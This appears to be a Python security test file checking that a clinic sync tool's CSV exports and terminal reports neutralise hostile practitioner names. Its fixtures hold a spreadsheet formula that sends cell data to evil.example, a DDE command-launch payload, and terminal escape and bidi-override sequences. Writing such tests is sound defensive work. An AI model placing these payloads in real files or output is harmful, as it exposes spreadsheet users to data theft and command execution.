"""Attacks: a PMS name that is a spreadsheet formula, or terminal markup and escape sequences.

The CSV (CLI and API) prefixes formula-like cells with a quote (OWASP); the CLI table escapes
rich markup and strips control characters, so `[/bold]` prints as text instead of crashing
`ptsync report`, and ANSI / OSC-8 sequences never reach the terminal.
"""

from __future__ import annotations

import csv
import io

from typer.testing import CliRunner

from tests.security.helpers import synced_clinic_with_names
from worker.cli import app
from worker.reports import latest_report, render_csv

FORMULA = '=HYPERLINK("https://evil.example/?"&A1,"click")'
MARKUP = "[/bold][link=https://evil.example]Ana[/link]"
ESCAPES = "Cara\x1b[31m Red\x1b]8;;https://evil.example\x1b\\Link\x1b]8;;\x1b\\\x07\u202eEnd"


def test_a_practitioner_named_as_a_spreadsheet_formula_is_exported_as_text(runtime, tmp_path, client, clinic):
    # Given a PMS whose practitioner names start with formula characters
    synced_clinic_with_names(
        runtime, tmp_path, "clinic-f", {"101": FORMULA, "103": "+1-555 @cmd|' /C calc'!A0"}
    )
    report, _ = latest_report(runtime, "clinic-f")
    # When the report is rendered as CSV (the CLI and the API share render_csv)
    rows = list(csv.reader(io.StringIO(render_csv(report))))
    # Then no cell starts with a formula character: each such cell is quoted with a leading '
    cells = [cell for row in rows[1:] for cell in row]
    assert cells and not any(cell.startswith(("=", "+", "-", "@", "\t", "\r")) for cell in cells)
    assert any(cell.startswith("'") and "=HYPERLINK(" in cell for cell in cells)


def test_report_csv_from_the_api_is_neutralised_too(runtime, tmp_path, client):
    # Given the same hostile names, read through the admin API
    from worker.services.credentials import create_admin_token

    synced_clinic_with_names(runtime, tmp_path, "clinic-g", {"101": FORMULA, "103": FORMULA})
    token = create_admin_token(runtime, "clinic-g", "t")
    # When the CSV is downloaded
    response = client.get(
        "/api/v1/orgs/clinic-g/report?format=csv", headers={"Authorization": f"Bearer {token}"}
    )
    # Then it carries the neutralised cell, never the raw formula at a cell start
    assert response.status_code == 200
    cells = [cell for row in csv.reader(io.StringIO(response.text)) for cell in row]
    assert any(cell.startswith("'") and "=HYPERLINK(" in cell for cell in cells)
    assert not any(cell.startswith("=") for cell in cells)


def test_markup_and_escape_sequences_in_names_never_reach_the_terminal(runtime, tmp_path):
    # Given practitioner names with rich markup, ANSI colour, an OSC-8 link, BEL and a bidi override
    synced_clinic_with_names(runtime, tmp_path, "clinic-t", {"101": MARKUP, "103": ESCAPES})
    # When `ptsync report` prints its table
    result = CliRunner().invoke(app, ["report", "clinic-t"], env={"COLUMNS": "250"})
    # Then it does not crash, shows the names as text, and emits no escape or control character
    assert result.exit_code == 0, result.output
    assert "[/bold][link=https://evil.example]Ana[/link]" in result.output
    assert "Cara Red" in result.output
    assert not any(ch in result.output for ch in ("\x1b", "\x07", "\u202e"))
